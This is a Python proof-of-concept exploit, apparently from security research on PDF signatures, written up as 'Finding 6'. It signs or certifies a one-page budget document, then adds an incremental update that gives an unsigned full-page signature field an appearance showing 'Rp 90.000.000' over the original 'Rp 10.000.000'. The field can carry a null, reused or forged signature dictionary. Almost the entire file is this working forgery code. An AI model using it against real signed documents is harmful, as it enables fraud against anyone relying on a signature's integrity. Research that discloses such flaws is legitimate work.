# SPDX-License-Identifier: GPL-3.0-or-later
# Finding 6: SIGNATURE_FIELD_SIGNED lets a prepared, unsigned signature field get an
# /AP without being signed (/V may stay null), and puts no limit on its /Rect: a
# full-page prepared field (invisible when signed: no /AP) later draws over the page.
#   python3 a5_prepared_sigfield_ap.py [CERTIFY_P|approval] [null|fake]
from common import *
import sys
mode = sys.argv[1] if len(sys.argv) > 1 else "2"
v = sys.argv[2] if len(sys.argv) > 2 else "null"
OLD = b"BT /F1 24 Tf 72 720 Td (Jumlah anggaran: Rp 10.000.000) Tj ET"
NEW = b"q 1 1 1 rg 60 700 500 60 re f Q BT /F1 24 Tf 0 0 1 rg 72 720 Td (Jumlah anggaran: Rp 90.000.000) Tj ET"
FIELD = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Persetujuan) /Rect [0 0 595 842] /P 3 0 R /F 4 %s>>"
objs = {1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R] >>",
        4: stream(OLD), 5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        6: FIELD % b""}
tag = "a5-" + mode + "-" + v
src = write(tag + "-src.pdf", build(objs))
signed = sign(src, W + "/" + tag + "-signed.pdf", *([] if mode == "approval" else ["--certify", mode]))
n = pdftool.Pdf(signed).size()
later = {n: stream(NEW, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> ")}
if v == "null":
    later[6] = FIELD % (b"/AP << /N %d 0 R >> " % n)
elif v == "reuse":  # /V = the certifier's own signature dictionary
    import re
    vnum = int(re.search(rb"/T \(Signature\d\)[^>]*?/V (\d+) 0 R|/V (\d+) 0 R[^>]*?/T \(Signature\d\)", signed).group(1) or 0) if False else None
    for m in re.finditer(rb"(\d+) 0 obj\s*<<(.*?)>>\s*endobj", signed, re.S):
        if b"/FT /Sig" in m.group(2) and b"/V " in m.group(2) and b"Persetujuan" not in m.group(2):
            vnum = int(re.search(rb"/V (\d+) 0 R", m.group(2)).group(1))
    print("reusing /V", vnum)
    later[6] = FIELD % (b"/AP << /N %d 0 R >> /V %d 0 R " % (n, vnum))
else:
    later[6] = FIELD % (b"/AP << /N %d 0 R >> /V %d 0 R " % (n, n + 1))
    later[n + 1] = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Name (Kepala Dinas) >>"
f = write(tag + "-attack.pdf", update(signed, later))
verify(W + "/" + tag + "-signed.pdf"); verify(f); render(W + "/" + tag + "-signed.pdf", tag + "-signed"); render(f, tag + "-attack")
